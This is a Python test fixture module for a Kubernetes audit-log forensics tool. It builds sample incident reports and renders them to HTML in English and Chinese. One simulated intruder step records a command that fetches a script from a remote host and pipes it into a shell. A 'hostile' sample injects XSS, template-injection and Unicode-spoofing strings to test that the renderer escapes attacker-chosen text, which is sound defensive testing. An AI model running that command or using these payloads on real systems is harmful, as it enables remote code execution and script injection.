"""Result documents for the renderers' tests: an intrusion as the incident builder is meant to tell it, and hard cases.

`python -m tests.report.sample DIR` writes every sample as HTML, to be looked at.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import msgspec

from kubewitness.model.evidence import EvidenceItem, Note, ParseFailure, Place
from kubewitness.model.incident import (
    Accessor,
    Act,
    Action,
    Actor,
    Coverage,
    EntryPoint,
    Evidence,
    Finding,
    Gap,
    Incident,
    ObjectLife,
    ObjectName,
    RootCause,
    Secret,
    Step,
    Technique,
    Verdict,
)
from kubewitness.model.text import Text
from kubewitness.report.document import SCHEMA_VERSION, Document
from tests.report.sample_ground import accessors, coverage, findings
from tests.report.sample_incident import incident
from tests.report.sample_steps import ANONYMOUS, CRB, LOG, OLD_LOG, STOLEN, TECHNIQUES, at, cited


def rbac_buster() -> Document:
    """The intrusion, with a day of benign traffic round it."""
    return Document(
        schema_version=SCHEMA_VERSION,
        tool="kubewitness 0.1.0",
        generated="2022-10-24T03:12:40.000000Z",
        case="shop-prod",
        label=Text("reconstructed scenario", "重构场景"),
        incidents=(incident(),),
        findings=findings(),
        accessors=accessors(),
        coverage=coverage(),
        parse_failures=(
            ParseFailure(
                Place(OLD_LOG, 118_003, 160_001_220, 812),
                "JSON ends inside a string",
                "verb, user, requestURI",
                '{"kind":"Event","apiV',
            ),
            ParseFailure(Place(LOG, 60_412, 88_120_400, 12), "not JSON: starts with NUL", "", "\\x00\\x00\\x00\\x00"),
            ParseFailure(Place(LOG, 60_413, 88_120_413, 90), "not JSON: starts with NUL", "", "\\x00\\x00"),
        ),
        parse_failures_total=3,
        complete=False,
    )


def without_incident() -> Document:
    """Findings, but nothing that adds up to an intrusion."""
    outside = tuple(finding for finding in findings() if not finding.incident)
    benign = tuple(accessor for accessor in accessors() if not accessor.incident)
    return msgspec.structs.replace(
        rbac_buster(),
        label=None,
        incidents=(),
        findings=outside,
        accessors=benign,
        parse_failures=(),
        parse_failures_total=0,
        complete=True,
    )


def empty() -> Document:
    """Nothing could be read at all."""
    bare = Coverage("", "", 0, 0, 0, {}, {}, {}, (EvidenceItem("empty.log", "e3b0c442" * 8),))
    return Document(
        SCHEMA_VERSION, "kubewitness 0.1.0", "2022-10-24T03:12:40Z", "empty.log", None, (), (), (), bare, ()
    )


def hands_on() -> Incident:
    """A person with a stolen kubeconfig: exec into a pod, no bindings; no lives given, the steps must do."""
    pod = ObjectName("pods/exec", "shop", "payments-6c9d8f7b5-2xk9q")
    who, agent, address = "dev:maria", "kubectl/v1.25.2 (darwin/arm64) kubernetes/5835544", "198.51.100.23"
    acts: tuple[tuple[Act, str, ObjectName, str, int, Text], ...] = (
        (
            "refused",
            "09:02:11.004",
            ObjectName("secrets", "kube-system", ""),
            "list",
            403,
            Text("Was refused the Secrets of kube-system", "列出 kube-system 的 Secret 被拒"),
        ),
        (
            "execute",
            "09:03:40.512",
            pod,
            "create",
            101,
            Text("Opened a shell in a payments pod", "在 payments Pod 中打开 shell"),
        ),
        (
            "change",
            "11:47:02.250",
            ObjectName("deployments", "shop", "payments", "apps"),
            "patch",
            200,
            Text("Changed the image of Deployment payments", "修改了 Deployment payments 的镜像"),
        ),
    )
    chain = tuple(
        Step(
            n,
            at(clock + "118"),
            at(clock + "118"),
            act,
            who,
            address,
            agent,
            what,
            Text("Same credential as before, from a new country.", "与之前相同的凭据，来自新的国家。"),
            (TECHNIQUES["T1613"],),
            objects=(target,),
            succeeded=int(code < 400),
            command="sh -c 'curl -s http://198.51.100.9/x | sh'" if act == "execute" else "",
            evidence=(cited(900 + n, clock, verb, target, who, agent, code, address),),
        )
        for n, (act, clock, target, verb, code, what) in enumerate(acts, 1)
    )
    return Incident(
        id="INC-20221023-02",
        severity="high",
        confidence="medium",
        title=Text(
            "A developer’s credential was used from elsewhere to change payments",
            "开发者凭据被异地使用，payments 遭到修改",
        ),
        story=(
            Text(
                "At 09:03 somebody opened a shell in shop/payments and later changed its image.",
                "09:03 有人进入 shop/payments 的容器，随后修改了其镜像。",
            ),
        ),
        first=chain[0].time,
        last=chain[-1].last,
        actors=(Actor((address,), (who,), (), (agent,), requests=3, first=chain[0].time, last=chain[-1].last),),
        entry_point=None,
        root_causes=(
            RootCause(
                "Credential",
                who,
                description=Text(
                    "A kubeconfig used from an address never seen before.", "kubeconfig 从从未出现过的地址使用。"
                ),
                requests_authorised=2,
                requests_total=2,
                created=at("06:00:00"),
                created_by="system:admin",
            ),
        ),
        steps=chain,
        status=(
            (Text("Way in", "入侵入口"), Text("Open: the credential was not seen revoked", "未关闭：未见吊销该凭据")),
        ),
        changed=(ObjectName("deployments", "shop", "payments", "apps"),),
        pods=(ObjectName("pods", "shop", "payments-6c9d8f7b5-2xk9q"),),
        verdict=Verdict(
            "hands_on",
            "medium",
            (Text("Pauses of hours, one typing error corrected.", "数小时的停顿，并改正了一次输入错误。"),),
        ),
        audit_ids=tuple(e.audit_id for s in chain for e in s.evidence),
    )


def two_incidents() -> Document:
    """Two intruders who have nothing to do with each other."""
    document = rbac_buster()
    return msgspec.structs.replace(document, incidents=(*document.incidents, hands_on()))


def many_steps(count: int = 60) -> Document:
    """A long chain: many steps, objects, identities and addresses, long names, and spans of no length."""
    acts: tuple[Act, ...] = ("read", "read", "read", "create", "change", "execute", "delete", "refused")
    whos = (
        ANONYMOUS,
        STOLEN,
        "system:serviceaccount:a-rather-long-namespace-name:and-an-even-longer-service-account-name",
        "dev:maria",
    )
    chain, told = [], []
    for n in range(1, count + 1):
        minute, second = divmod(n * n * 3 // 2, 60)
        clock = f"{9 + minute // 60:02d}:{minute % 60:02d}:{second:02d}.000"
        act, who = acts[n * 7 // 5 % len(acts)], whos[n // 9 % len(whos)]
        name = ObjectName(
            ("secrets", "pods", "configmaps", CRB)[n % 4], f"team-{n % 5}", f"object-with-quite-a-long-name-{n:03d}"
        )
        address = f"203.0.113.{n // 20 + 1}"
        told.append(
            ObjectLife(
                name, read_steps=(n,) if act in ("read", "refused") else (), created_step=n if act == "create" else 0
            )
        )
        chain.append(
            Step(
                n,
                at(clock),
                at(clock),
                act,
                who,
                address,
                "kubectl/v1.24.4" if n % 11 else "curl/7.64.0",
                Text(f"Did thing {n} to {name.name}", f"对 {name.name} 执行第 {n} 项操作"),
                Text("Same address.", "来源 IP 相同。"),
                (TECHNIQUES["T1613"],),
                objects=(name,),
                inferred=n % 13 == 0,
                confidence=0.6 if n % 13 == 0 else 1.0,
                evidence=tuple(
                    cited(2_000 + 100 * n + i, clock, "get", name, who, "kubectl/v1.24.4", 200, address)
                    for i in range(3)
                ),
            )
        )
    base = incident()
    long = msgspec.structs.replace(
        base,
        steps=tuple(chain),
        lives=tuple(told),
        first=chain[0].time,
        last=chain[-1].last,
        nodes=tuple(f"node-{n}" for n in range(40)),
    )
    return msgspec.structs.replace(rbac_buster(), incidents=(long,))


HOSTILE = (
    "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"
    "\x1b[31m\u202egnp.exe\u2066\x00\ud800</style></title>`${7*7}`{{7*7}}"
)


def hostile() -> Document:
    """Every text an intruder can choose is an attack on the report's reader."""
    bad = HOSTILE
    name = ObjectName(bad, bad, bad)
    proof = Evidence(
        bad, bad, 1, 2, bad, bad, bad, bad, (bad, "user.username"), json.dumps({"user": {"username": bad}, bad: bad})
    )
    cut = msgspec.structs.replace(proof, audit_id="cut", original='{"verb":"list","user":{"username":"' + bad)
    text = Text(bad, bad)
    technique = Technique(bad, bad)
    step = Step(
        1,
        bad,
        bad,
        "read",
        bad,
        bad,
        bad,
        text,
        text,
        (technique,),
        objects=(name,),
        rules=(bad,),
        effects=(text,),
        effect_events=3,
        command=bad,
        evidence=(proof, cut),
    )
    attacked = Incident(
        bad,
        "high",
        "low",
        text,
        (text,),
        bad,
        bad,
        (Actor((bad,), (bad,), (bad,), (bad,), (bad,), (text,)),),
        EntryPoint(bad, bad, bad, text, (technique,), (proof,)),
        (RootCause(bad, bad, bad, f"ClusterRole {bad}", f"User {bad}", text, 1, 1, bad, bad, bad, bad, (proof,)),),
        (
            step,
            msgspec.structs.replace(step, number=2, act="delete"),
            msgspec.structs.replace(step, number=3, act="effect"),
        ),
        ((text, text),),
        (ObjectLife(name, bad, 0, bad, 2, role="cause", grants=bad), ObjectLife(name, missing_steps=(1,))),
        (name,),
        (name,),
        (name,),
        (name,),
        (name,),
        (bad,),
        (Secret(bad, bad, text, (proof,)),),
        Verdict("undetermined", "low", (text,), (text,)),
        (Action("stop", text, text, bad, False, text, text),),
        (text,),
        (bad,),
        (bad,),
    )
    finding = Finding(
        bad,
        bad,
        text,
        text,
        "low",
        "low",
        "activity",
        (technique,),
        bad,
        bad,
        1,
        bad,
        bad,
        (name,),
        {bad: [bad]},
        (text,),
        text,
        evidence=(proof,),
    )
    failure = ParseFailure(Place(bad, 1, 2), bad, bad, bad)
    cover = Coverage(
        bad,
        bad,
        1,
        1,
        0,
        {bad: 1},
        {bad: 1},
        {bad: 1},
        (EvidenceItem(bad, bad, 1, bad, bad, 1, 0, 1, bad),),
        (Gap(bad, bad, 60.0),),
        (text,),
        (Note(Place(bad, 1, 2), bad),),
        rules_loaded=1,
        rules_failed=(bad,),
    )
    accessor = Accessor(bad, bad, (bad,), 1, 0, bad, bad, {bad: 1}, {bad: 1}, bad)
    return Document(
        SCHEMA_VERSION, bad, bad, bad, text, (attacked,), (finding,), (accessor,), cover, (failure,), 1, False
    )


SAMPLES = {
    "rbac_buster": rbac_buster,
    "without_incident": without_incident,
    "empty": empty,
    "two_incidents": two_incidents,
    "many_steps": many_steps,
    "hostile": hostile,
}


def main(folder: str) -> None:
    """Write every sample in both languages."""
    from kubewitness.report.html.page import render

    for name, make in SAMPLES.items():
        Path(folder, f"{name}.en.html").write_text(render(make(), "en"), encoding="utf-8")
        Path(folder, f"{name}.zh.html").write_text(render(make(), "zh"), encoding="utf-8")


if __name__ == "__main__":
    main(sys.argv[1])
